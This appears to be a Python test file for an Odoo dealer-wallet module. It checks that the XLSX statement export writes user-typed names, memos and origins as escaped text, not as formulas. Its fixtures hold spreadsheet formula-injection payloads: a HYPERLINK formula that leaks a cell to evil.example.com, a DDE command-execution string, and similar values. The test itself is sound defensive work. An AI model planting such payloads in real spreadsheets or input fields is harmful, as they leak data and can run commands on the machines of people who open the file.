import io

import openpyxl

from odoo import fields
from odoo.tests import tagged

from .common import DealerWalletCommon

# what an attacker types as a store or dealer name: a live link leaking the next cell
FORMULA_NAME = '=HYPERLINK("http://evil.example.com/?leak="&B4,"点击核对对账单")'


@tagged("post_install", "-at_install")
class TestStatementExport(DealerWalletCommon):
    """The statement XLSX writes the values users typed as text, never as formulas."""

    def test_formula_like_values_are_text(self):
        dealer = self._create_dealer(FORMULA_NAME)
        cash = self.Wallet._get_wallet(dealer, "cash")
        cash._topup(1000.0, journal=self.bank_journal, memo="+cmd|' /C calc'!A0")
        cash._debit(300.0, kind="deposit", idempotency_key="st-formula", origin="@SUM(1+1)*cmd",
                    memo="-2+3", date=fields.Date.today())
        today = fields.Date.today()
        sheet = openpyxl.load_workbook(io.BytesIO(self.Wallet._get_statement_xlsx(dealer, today, today))).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"], "no formula in the file")
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        self.assertIn("'" + FORMULA_NAME, texts, "the name is text, neutralized for re-typing")
        self.assertIn("'+cmd|' /C calc'!A0", texts)
        self.assertIn("'@SUM(1+1)*cmd", texts)
        self.assertIn("'-2+3", texts)
        self.assertNotIn(FORMULA_NAME, {str(cell.value) for cell in cells})
        # amounts stay numbers
        self.assertIn(1000.0, [cell.value for cell in cells if cell.data_type == "n"])
